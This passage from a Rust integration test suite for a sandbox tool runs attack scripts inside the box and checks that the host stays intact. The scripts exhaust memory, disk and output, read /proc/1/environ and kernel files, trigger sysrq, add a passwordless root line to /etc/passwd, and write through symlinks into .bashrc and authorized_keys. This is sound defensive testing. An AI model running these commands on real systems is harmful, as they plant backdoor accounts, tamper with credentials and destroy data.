        format!("python3 -c 'b = b\"x\" * ({mib} << 20); print(\"allocated\", len(b))' {marker}")
    };
    // A VM's memory cap is its RAM, and its own kernel needs some: the least a microVM box
    // may have is 128 MiB (airlock refuses less, saying so).
    let microvm = test_backend_kind() == BackendKind::Microvm;
    let cap = if microvm { "128M" } else { "64M" };
    let (r, res) = boxed_json(t.path(), &["--memory", cap, "--timeout", "20s"], &py(1024));
    assert!(
        !r.stdout.contains("allocated"),
        "1 GiB was allocated under a {cap} cap"
    );
    match test_backend_kind() {
        // The limit is a host cgroup around the whole sandbox, the Sentry's own memory
        // included, and gVisor has no OOM killer of its own: the host's kills the Sentry, so
        // the whole box ends (as its receipt says), and airlock says that this was the limit.
        BackendKind::Gvisor => {
            assert_eq!(r.code, 125, "{}", r.stderr);
            assert!(
                r.stderr.contains("reached its memory limit"),
                "the end does not name the memory limit: {}",
                r.stderr
            );
        }
        // The guest kernel refuses or OOM-kills the allocation inside the VM's RAM; the host is
        // not told which limit held (no limit events over the seam).
        BackendKind::Microvm => {
            assert!(
                r.code == 137 || r.stderr.contains("MemoryError"),
                "exit {}: {}",
                r.code,
                r.stderr
            );
            assert_ne!(res["exit_code"], 0, "the result reports success");
        }
        _ => {
            assert!(
                r.code == 137 || r.stderr.contains("MemoryError"),
                "exit {}: {}",
                r.code,
                r.stderr
            );
            assert!(
                limits_hit(&res).contains(&"memory".to_string()),
                "limits_hit: {:?}",
                res["limits_hit"]
            );
        }
    }
    // Positive control: a small allocation fits.
    let (r, res) = boxed_json(t.path(), &["--memory", cap, "--timeout", "20s"], &py(8));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("allocated 8388608"));
    assert!(limits_hit(&res).is_empty());
    host.assert_untouched(&marker);
}

#[test]
fn attack_infinite_loop_with_detached_child() {
    let host = HostState::capture();
    let t = TempDir::new("loop");
    let marker = format!("1000.{}02s", std::process::id());
    let started = Instant::now();
    let (r, res) = boxed_json(
        t.path(),
        &["--timeout", "2s"],
        &format!("setsid sh -c 'sleep {marker}' & while :; do :; done"),
    );
    let took = started.elapsed();
    assert_eq!(r.code, 124, "{}", r.stderr);
    assert_eq!(res["exit_code"], 124);
    assert!(
        limits_hit(&res).contains(&"timeout".to_string()),
        "limits_hit: {:?}",
        res["limits_hit"]
    );
    let wall = res["wall_ms"].as_f64().unwrap();
    assert!((1900.0..10_000.0).contains(&wall), "wall_ms {wall}");
    assert!(took < Duration::from_secs(10), "took {took:?}");
    host.assert_untouched(&marker);
}

#[test]
fn attack_fill_scratch_disk() {
    let host = HostState::capture();
    let t = TempDir::new("disk");
    let marker = unique("disk");
    let host_tmp = Path::new("/tmp").join(&marker);
    let script = format!(
        "dd if=/dev/zero of=/tmp/{marker} bs=1M count=4 2>/dev/null; echo small=$?; rm -f /tmp/{marker}
         dd if=/dev/zero of=/tmp/{marker} bs=1M count=64; echo big=$?; rm -f /tmp/{marker}
         dd if=/dev/zero of=/tmp/{marker}.a bs=1M count=10; echo tmp=$?
         dd if=/dev/zero of=$HOME/{marker}.b bs=1M count=10; echo home=$?
         ls -d $HOME; df -k /tmp | tail -1"
    );
    let r = boxed(t.path(), &["--disk", "16M"], &script);
    assert_eq!(
        line(&r.stdout, "small="),
        "small=0",
        "positive control: 4M fits:\n{}{}",
        r.stdout,
        r.stderr
    );
    assert_ne!(line(&r.stdout, "big="), "big=0", "64M fit in a 16M scratch");
    assert!(
        r.stderr.contains("No space left") || r.stderr.contains("File size limit"),
        "{}",
        r.stderr
    );
    assert_eq!(
        line(&r.stdout, "tmp="),
        "tmp=0",
        "positive control: 10M fits:\n{}{}",
        r.stdout,
        r.stderr
    );
    assert_ne!(
        line(&r.stdout, "home="),
        "home=0",
        "/tmp and home do not share one cap:\n{}",
        r.stdout
    );
    assert!(
        r.stderr.contains(&format!("{marker}.b': No space left")),
        "{}",
        r.stderr
    );
    for p in [
        host_tmp.clone(),
        host_tmp.with_extension("a"),
        t.join(&format!("{marker}.b")),
    ] {
        assert!(!p.exists(), "{} was written on the host", p.display());
    }
    host.assert_untouched(&marker);
}

/// Bytes and entries under `dir` (not following symlinks).
fn usage(dir: &Path) -> (u64, u64) {
    let (mut bytes, mut entries) = (0, 0);
    for e in std::fs::read_dir(dir).expect("read dir").flatten() {
        let meta = e.metadata().expect("stat");
        entries += 1;
        if meta.is_dir() {
            let (b, n) = usage(&e.path());
            bytes += b;
            entries += n;
        } else {
            bytes += meta.len();
        }
    }
    (bytes, entries)
}

#[test]
fn attack_fill_the_workspace_past_the_disk_cap() {
    // `--disk` is one total for what the box writes: the workspace's writes go to a change
    // layer on the box's capped tmpfs and reach the host when the box ends. Without it, a
    // box with `--disk 64M` wrote gigabytes and 100,000 files into the host workspace.
    let host = HostState::capture();
    let t = TempDir::new("ws-cap");
    let ws = t.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join("keep.txt"), "kept\n").unwrap();
    let marker = unique("ws-cap");
    match test_backend_kind() {
        // A gVisor box has no change layer: it writes its workspace directly, as a native box
        // with --changes direct does, so --disk caps its scratch (attack_fill_scratch_disk) and
        // the workspace is capped per file only (RLIMIT_FSIZE, enforced by the Sentry). The
        // receipt says so, and the per-file cap holds against a file past it.
        BackendKind::Gvisor => {
            workspace_capped_per_file(
                &t,
                &ws,
                &marker,
                "disk",
                "the workspace is written directly",
            );
            host.assert_untouched(&marker);
        }
        // A known gap (docs/threat-model.md): a microVM box's workspace is a live 9p share of
        // the host directory, outside the guest's capped tmpfs, so --disk caps only the scratch
        // and, through the guest's RLIMIT_FSIZE, each file. Many files under the cap can still
        // fill the host filesystem that holds the workspace; the receipt says so. What holds:
        // the per-file cap against a file past it.
        BackendKind::Microvm => {
            workspace_capped_per_file(
                &t,
                &ws,
                &marker,
                "limits",
                "the workspace and writable grants are live host directories, not counted in it",
            );
            host.assert_untouched(&marker);
        }
        _ => {
            workspace_capped_in_total(&t, &ws, &marker);
            host.assert_untouched(&marker);
        }
    }
}

/// What a gVisor or microVM box's workspace writes are held to: the per-file cap; the receipt's
/// `layer` says that the workspace is not in the total.
// A test's own body, moved out of its #[test] fn to choose it by backend.
#[allow(clippy::unwrap_used)]
fn workspace_capped_per_file(t: &TempDir, ws: &Path, marker: &str, layer: &str, says: &str) {
    let script = format!(
        "python3 -c '
n = 0
try:
    with open(\"big\", \"wb\") as f:
        for i in range(80):
            f.write(b\"x\" * (1 << 20))
            f.flush()
            n += 1
except OSError as e:
    print(\"big:\", e.strerror)
print(\"written=%d\" % n)' {marker}"
    );
    let (r, doc) = boxed_json(ws, &["--disk", "64M", "--timeout", "60s"], &script);
    assert!(
        r.stdout.contains("big: File too large"),
        "an 80M file in a box whose files are capped at 64M:\n{}{}",
        r.stdout,
        r.stderr
    );
    let big = std::fs::metadata(ws.join("big"))
        .expect("the capped file")
        .len();
    assert!(big <= 64 << 20, "the host file grew to {big} bytes");
    assert!(
        big > 0,
        "positive control: the file was written up to the cap"
    );
    let disk = doc["receipt"]["layers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["layer"] == layer)
        .unwrap()
        .clone();
    assert!(disk["detail"].as_str().unwrap().contains(says), "{disk}");
    let beside: Vec<_> = std::fs::read_dir(t.path()).unwrap().flatten().collect();
    assert_eq!(beside.len(), 1, "files appeared outside the workspace");
}

/// What a box with a change layer holds its workspace writes to: the --disk total.
// A test's own body, moved out of its #[test] fn to choose it by backend.
#[allow(clippy::unwrap_used)]
fn workspace_capped_in_total(t: &TempDir, ws: &Path, marker: &str) {
    let script = format!(
        "dd if=/dev/zero of=small bs=1M count=4 2>/dev/null; echo small=$?
         for n in 1 2 3 4; do dd if=/dev/zero of=big$n bs=1M count=64 2>&1 | grep -o 'No space left on device' | head -1; done
         ls -l big1 big2 big3 big4 2>/dev/null | wc -l
         rm -f big1 big2 big3 big4
         mkdir many
         python3 -c '
import sys
n = 0
try:
    for i in range(100000):
        with open(\"many/f%d\" % i, \"w\") as f:
            f.write(\"x\")
        n += 1
except OSError as e:
    print(\"small files:\", e.strerror, file=sys.stderr)
print(\"files=%d\" % n)'
         echo {marker}"
    );
    let started = Instant::now();
    let (r, doc) = boxed_json(ws, &["--disk", "64M", "--timeout", "120s"], &script);
    assert!(
        started.elapsed() < Duration::from_secs(120),
        "the attack ran too long"
    );
    assert_eq!(
        line(&r.stdout, "small="),
        "small=0",
        "positive control: 4M fits:\n{}{}",
        r.stdout,
        r.stderr
    );
    assert!(
        r.stdout.contains("No space left on device"),
        "256M of files in a 64M box hit no ENOSPC inside:\n{}{}",
        r.stdout,
        r.stderr
    );
    let files: u64 = line(&r.stdout, "files=")["files=".len()..]
        .trim()
        .parse()
        .unwrap();
    assert!(
        files < 100_000,
        "100,000 small files fit in a 64M box: {}",
        r.stdout
    );
    assert!(
        r.stderr.contains("No space left on device"),
        "the small files did not stop at ENOSPC: {}",
        r.stderr
    );
    // The host workspace gained at most the cap (plus directory blocks).
    let (bytes, entries) = usage(ws);
    assert!(
        bytes <= (64 << 20) + (4 << 20),
        "the host workspace gained {bytes} bytes with --disk 64M"
    );
    assert!(
        entries <= files + 8,
        "the host workspace has {entries} entries"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("keep.txt")).unwrap(),
        "kept\n"
    );
    // What fit was applied: the positive control reached the host.
    assert_eq!(std::fs::metadata(ws.join("small")).unwrap().len(), 4 << 20);
    assert!(
        doc["changes"]["failed"].as_array().unwrap().is_empty(),
        "{doc}"
    );
    let disk = doc["receipt"]["layers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["layer"] == "disk")
        .unwrap()
        .clone();
    assert!(
        disk["detail"]
            .as_str()
            .unwrap()
            .contains("in total for the workspace's changes"),
        "{disk}"
    );
    // Nothing appeared next to the workspace.
    let beside: Vec<_> = std::fs::read_dir(t.path()).unwrap().flatten().collect();
    assert_eq!(beside.len(), 1, "files appeared outside the workspace");

    // The same run with --changes direct is said to be uncapped (and writes land directly).
    let direct = t.join("direct");
    std::fs::create_dir_all(&direct).unwrap();
    let (r, doc) = boxed_json(
        &direct,
        &["--disk", "64M", "--changes", "direct"],
        "echo hi > f; cat /proc/self/mountinfo | grep -c ' overlay ' || true",
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(std::fs::read_to_string(direct.join("f")).unwrap(), "hi\n");
    let text = doc["receipt"].to_string();
    assert!(
        text.contains("workspace: no total write cap (each file ≤ 64 MiB)"),
        "{text}"
    );
    assert!(doc["changes"].is_null(), "{doc}");
}

#[test]
fn attack_output_flood() {
    let host = HostState::capture();
    let t = TempDir::new("flood");
    let marker = unique("flood");
    let (r, res) = boxed_json(
        t.path(),
        &["--output-limit", "1M", "--timeout", "20s"],
        &format!("yes {marker}"),
    );
    assert!(
        r.stdout.len() <= 1 << 20,
        "stdout is {} bytes",
        r.stdout.len()
    );
    assert!(
        r.stdout.len() > 1 << 19,
        "positive control: output flowed until the cap ({} bytes)",
        r.stdout.len()
    );
    assert!(
        limits_hit(&res).contains(&"output".to_string()),
        "limits_hit: {:?}",
        res["limits_hit"]
    );
    assert_ne!(r.code, 0);
    assert!(!limits_hit(&res).contains(&"timeout".to_string()));
    host.assert_untouched(&marker);
}

// ----- the host's kernel interfaces and the root -----

#[test]
fn attack_host_proc_and_sys() {
    let host = HostState::capture();
    let t = TempDir::new("proc");
    let secret = unique("proc-secret");
    let host_init = std::fs::read("/proc/1/cmdline").unwrap_or_default();
    let host_init = String::from_utf8_lossy(&host_init).replace('\0', " ");
    let script =
        "echo \"init=$(tr '\\0' ' ' < /proc/1/cmdline)\"; cat /proc/1/environ; echo environ=$?
         grep -c . /proc/self/status | sed 's/^/status=/'
         echo \"kcore=$(cat /proc/kcore 2>/dev/null | wc -c)\"
         echo \"kallsyms=$(cat /proc/kallsyms 2>/dev/null | wc -c)\"
         echo 1 > /proc/sysrq-trigger; echo sysrq=$?
         echo 1 > /proc/sys/kernel/sysrq; echo sysctl=$?
         ls /sys; echo sys=$?; echo \"sysentries=$(ls -A /sys 2>/dev/null | wc -l)\"";
    let r = boxed_env(t.path(), &[("AIRLOCK_TEST_SECRET", &secret)], &[], script);
    assert!(
        line(&r.stdout, "status=") != "status=0",
        "positive control: /proc/self is readable:\n{}{}",
        r.stdout,
        r.stderr
    );
    let init = line(&r.stdout, "init=");
    match test_backend_kind() {
        // runsc execs the box's init (the agent) afresh from the bundle: its command line is the
        // bundle's, under the box's own /.airlock, not a copy of airlock's to hide.
        BackendKind::Gvisor => assert!(
            init.starts_with("init=/.airlock/") && init.contains("/.airlock/agent agent --fd 0"),
            "pid 1 is not the box's own agent: {init}"
        ),
        // The guest's pid 1 is airlock's init in the VM, running as the guest's root: the box's
        // /proc is mounted hidepid=invisible, so the box does not see it at all.
        BackendKind::Microvm => assert_eq!(init.trim(), "init=", "pid 1 is visible: {init}"),
        _ => assert!(
            init.starts_with("init=airlock-init"),
            "pid 1 is not the box's own init: {init}"
        ),
    }
    assert!(
        !host_init.is_empty() && !init.contains(host_init.trim()),
        "pid 1 is the host's init: {init}"
    );
    assert!(
        !r.stdout.contains(&secret) && !r.stderr.contains(&secret),
        "/proc/1/environ leaked airlock's environment"
    );
    assert_eq!(
        line(&r.stdout, "kcore="),
        "kcore=0",
        "/proc/kcore is readable"
    );
    assert_eq!(
        line(&r.stdout, "kallsyms="),
        "kallsyms=0",
        "/proc/kallsyms is readable"
    );
    assert_ne!(line(&r.stdout, "sysrq="), "sysrq=0");
    assert_ne!(line(&r.stdout, "sysctl="), "sysctl=0");
    match test_backend_kind() {
        // runsc always gives the box a /sys (the Sentry's own, synthetic); airlock covers it
        // with an empty read-only tmpfs, so the box sees the directory and nothing in it.
        BackendKind::Gvisor => assert_eq!(
            line(&r.stdout, "sysentries="),
            "sysentries=0",
            "/sys shows entries in the box:\n{}",
            r.stdout
        ),
        _ => assert_ne!(line(&r.stdout, "sys="), "sys=0", "/sys exists in the box"),
    }
    host.assert_untouched(&secret);
}

#[test]
fn attack_read_airlocks_command_line_from_init() {
    // The box's init is a copy of airlock, so its argument area holds airlock's command line:
    // the binary's host path and every `--env NAME=VALUE` value given to airlock. The box reads
    // it (and init's environment and executable) through /proc/1.
    let host = HostState::capture();
    let t = TempDir::new("initargs");
    let secret = unique("initargs-secret");
    let env = format!("AIRLOCK_PROBE={secret}");
    let bin = airlock_bin();
    let script = "[ -n \"$AIRLOCK_PROBE\" ]; echo envset=$?
         echo \"cmdline=$(tr '\\0' ' ' < /proc/1/cmdline)\"
         echo \"comm=$(cat /proc/1/comm)\"
         echo \"environ=$(tr '\\0' ' ' < /proc/1/environ 2>/dev/null)\"
         echo \"exe=$(readlink /proc/1/exe 2>/dev/null)\"
         echo \"exebytes=$(head -c 64 /proc/1/exe 2>/dev/null | wc -c)\"";
    let r = boxed(t.path(), &["--env", &env], script);
    assert_eq!(
        line(&r.stdout, "envset="),
        "envset=0",
        "positive control: the --env value reached the box:\n{}{}",
        r.stdout,
        r.stderr
    );
    let microvm = test_backend_kind() == BackendKind::Microvm;
    if microvm {
        // The VM's pid 1 is airlock's guest init (not a copy of airlock, which stays on the
        // host): hidden from the box (hidepid), so nothing of it is readable at all.
        assert_eq!(
            line(&r.stdout, "cmdline=").trim(),
            "cmdline=",
            "{}",
            r.stdout
        );
        assert_eq!(line(&r.stdout, "comm=").trim(), "comm=", "{}", r.stdout);
    } else {
        assert!(
            line(&r.stdout, "cmdline=").trim() != "cmdline=",
            "positive control: /proc/1/cmdline is readable:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    let seen: String = ["cmdline=", "comm=", "environ=", "exe=", "exebytes="]
        .iter()
        .map(|k| format!("{}\n", line(&r.stdout, k)))
        .collect();
    assert!(
        !seen.contains(&secret),
        "an --env value of airlock's command line is readable in /proc/1:\n{seen}"
    );
    for leak in [s(&bin), s(bin.parent().expect("the binary's directory"))] {
        assert!(
            !seen.contains(&leak),
            "the airlock binary's host path {leak} is readable in /proc/1:\n{seen}"
        );
    }
    assert!(
        !seen.contains("--env") && !seen.contains(" run "),
        "airlock's arguments are readable in /proc/1:\n{seen}"
    );
    assert_eq!(
        line(&r.stdout, "exebytes="),
        "exebytes=0",
        "init's executable is readable"
    );
    match test_backend_kind() {
        // Under gVisor init is not a copy of airlock but the agent, exec'd by runsc from the
        // bundle's arguments (and the Sentry's /proc/1/stat has no argument-area addresses to
        // rewrite it by): what it shows is the bundle's command line, checked above to hold
        // nothing of airlock's.
        BackendKind::Gvisor => assert!(
            line(&r.stdout, "cmdline=").contains("/.airlock/agent agent --fd 0"),
            "init is not the box's agent:\n{seen}"
        ),
        _ => assert!(
            microvm
                || line(&r.stdout, "cmdline=").starts_with("cmdline=airlock-init")
                    && line(&r.stdout, "comm=") == "comm=airlock-init",
            "init does not show its own name:\n{seen}"
        ),
    }
    host.assert_untouched(&secret);
}

#[test]
fn attack_write_read_only_root() {
    let host = HostState::capture();
    let t = TempDir::new("root");
    let marker = unique("root");
    let passwd = std::fs::read("/etc/passwd").unwrap();
    let script = format!(
        "touch /tmp/ok; echo tmp=$?
         touch /{marker}; echo root=$?
         mkdir /etc/{marker}; echo etc=$?
         echo 'evil::0:0::/:/bin/sh' >> /etc/passwd; echo passwd=$?
         echo > /etc/passwd; echo truncate=$?
         cp /bin/sh /usr/bin/{marker}; echo usr=$?"
    );
    let r = boxed(t.path(), &[], &script);
    assert_eq!(
        line(&r.stdout, "tmp="),
        "tmp=0",
        "positive control: /tmp is writable:\n{}{}",
        r.stdout,
        r.stderr
    );
    let keys = ["root=", "etc=", "passwd=", "truncate=", "usr="];
    for k in must_fail(&keys, &keys) {
        assert_ne!(
            line(&r.stdout, k),
            format!("{k}0"),
            "{k} write succeeded:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    assert_eq!(
        std::fs::read("/etc/passwd").unwrap(),
        passwd,
        "the host's /etc/passwd changed"
    );
    for p in [
        format!("/{marker}"),
        format!("/etc/{marker}"),
        format!("/usr/bin/{marker}"),
    ] {
        assert!(!Path::new(&p).exists(), "{p} exists on the host");
    }
    host.assert_untouched(&marker);
}

#[test]
fn attack_symlink_swap_out_of_workspace() {
    let host = HostState::capture();
    let t = TempDir::new("swap");
    let home = t.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".bashrc"), "# host rc\n").unwrap();
    std::fs::write(home.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA host\n").unwrap();
    let ws = t.join("ws");
    std::fs::create_dir_all(ws.join("sub")).unwrap();
    let home_before = snapshot(&home);
    let marker = unique("swap");

    let script = format!(
        "ln -s sub good; echo ok > good/f; echo good=$?
         ln -s /etc evil; ln -s {home} evil2; echo links=$?
         echo x > evil/{marker}; echo etc=$?
         echo evil >> evil2/.bashrc; echo rc=$?
         echo evil >> evil2/.ssh/authorized_keys; echo keys=$?
         echo x > evil2/{marker}; echo new=$?
         rm -rf evil2/.ssh; echo rm=$?
         ln -sfn /usr/bin sub2 && touch sub2/{marker}; echo usr=$?",
        home = s(&home)
    );
    let r = boxed(&ws, &[], &script);
    assert_eq!(
        line(&r.stdout, "good="),
        "good=0",
        "positive control: {}{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(
        line(&r.stdout, "links="),
        "links=0",
        "positive control: the box may make symlinks"
    );
    assert_eq!(std::fs::read_to_string(ws.join("sub/f")).unwrap(), "ok\n");
    for k in must_fail(&["etc=", "rc=", "keys=", "new=", "usr="], &["etc=", "usr="]) {
        assert_ne!(
            line(&r.stdout, k),
            format!("{k}0"),
            "{k} write through a symlink succeeded:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    assert_eq!(snapshot(&home), home_before, "the host home changed");
    assert!(
        !Path::new("/etc").join(&marker).exists() && !Path::new("/usr/bin").join(&marker).exists()
    );
    host.assert_untouched(&marker);
}
